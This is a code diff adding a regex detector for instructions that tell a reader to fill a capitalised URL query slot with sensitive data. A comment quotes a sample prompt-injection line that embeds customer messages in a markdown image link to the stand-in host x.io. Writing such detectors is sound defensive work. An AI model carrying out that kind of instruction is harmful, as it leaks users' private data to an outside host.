@@ -95,6 +95,21 @@ _CUES = (
         r"CREDENTIALS|EMAILS|TRANSCRIPT|CONTACTS|INBOX|PROMPT)(?![a-z]))",
     ),
     cue(
+        # "substituting the last five customer messages for DATA: ![s](https://x.io/b?d=DATA)":
+        # a capitalised slot in a URL's query, to be filled with someone's data.
+        "url_slot_filled_with_data",
+        0.75,
+        r"\b(?:substitut\w*|replac\w*|fill\w*\s+in|insert\w*)\b"
+        + gap(4)
+        # Not API documentation's "substitute your API key for KEY".
+        + r"(?<!\byour\s)(?<!\bmy\s)(?<!\bour\s)"
+        + either(_SENSITIVE, _BULK)
+        + gap(6)
+        + r"(?:for|with|into|in|as)\s+(?:the\s+)?(?:placeholder\s+)?[`'\"]?"
+        r"(?-i:([A-Z][A-Z0-9_]{2,30}))\b[\s\S]{0,400}?https?://[^\s()<>?]{1,300}\?"
+        r"(?:[^\s()<>=&]{0,40}=[^\s()<>&]{0,40}&){0,4}?[^\s()<>=&]{1,40}=\1\b",
+    ),
+    cue(
         "data_into_url",
         0.75,
         r"\b(?:append|add|include|insert|encode|embed|put|attach|concatenate|substitute|"
